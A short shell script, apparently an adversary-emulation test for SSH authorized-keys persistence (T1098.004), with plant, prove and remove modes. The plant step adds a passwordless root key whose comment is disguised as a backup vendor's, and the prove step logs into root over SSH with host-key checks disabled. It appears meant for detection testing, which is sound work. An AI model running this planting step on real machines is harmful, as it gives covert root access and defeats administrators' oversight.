#!/bin/sh
# T1098.004 (loud): A further key of root's, commented like a vendor's
M=/var/tmp/luytre-foothold N=12-key-root
mkdir -p "$M" && chmod 1777 "$M"
seen() { n=0; while [ $n -lt "${1:-40}" ]; do [ -s "$M/$N" ] && return 0; sleep 0.25; n=$((n + 1)); done; return 1; }
keep() { mkdir -p "$M/.keep/${1%/*}"; [ -e "$M/.keep/$1" ] || cp -a "$1" "$M/.keep/$1"; }
key() { rm -f "$M/$N.key" "$M/$N.key.pub"; ssh-keygen -q -t ed25519 -N "" -C "$1" -f "$M/$N.key"; }
enter() { u=$1; shift; ssh -q -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes -i "$M/$N.key" "$u@127.0.0.1" "$@"; }
plant() {
  key "support@backup.example"
  mkdir -p /root/.ssh; chmod 700 /root/.ssh; [ -e /root/.ssh/authorized_keys ] && keep /root/.ssh/authorized_keys
  cat $M/$N.key.pub >>/root/.ssh/authorized_keys; chmod 600 /root/.ssh/authorized_keys
}
prove() {
  rm -f "$M/$N"
  enter root "id > /var/tmp/luytre-foothold/12-key-root"
  seen
}
remove() {
  sed -i '/support@backup.example/d' /root/.ssh/authorized_keys; [ -s /root/.ssh/authorized_keys ] || rm -f /root/.ssh/authorized_keys; rm -f $M/.keep//root/.ssh/authorized_keys
  rm -f "$M/$N" "$M/$N".*
  :
}
case $1 in plant | prove | remove) "$1" ;; *) echo "usage: $0 plant|prove|remove" >&2; exit 2 ;; esac
